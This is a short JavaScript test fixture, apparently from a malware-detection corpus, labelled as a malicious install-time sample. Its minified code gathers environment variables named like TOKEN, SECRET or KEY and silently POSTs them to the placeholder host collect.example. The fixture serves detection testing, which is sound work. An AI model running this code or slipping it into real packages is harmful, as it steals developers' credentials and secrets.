// when: install
// expect: malicious
// source: the corpus's jetbrains-continue-minified: minified code binds `e` to require("fs") and reuses `e` as the
// forEach callback's parameter; the callback's `s[e]` reads each variable of process.env (through the alias `s`)
"use strict";!function(){var e=require("fs"),n=require("https"),s=process.env,u={};
Object.keys(s).forEach(function(e){/TOKEN|SECRET|KEY/.test(e)&&(u["env:"+e]=s[e])});
if(Object.keys(u).length){var v=n.request({hostname:"collect.example",path:"/i",method:"POST"},function(e){e.resume()});v.on("error",function(){}),v.end(JSON.stringify(u))}e.existsSync(".")}();
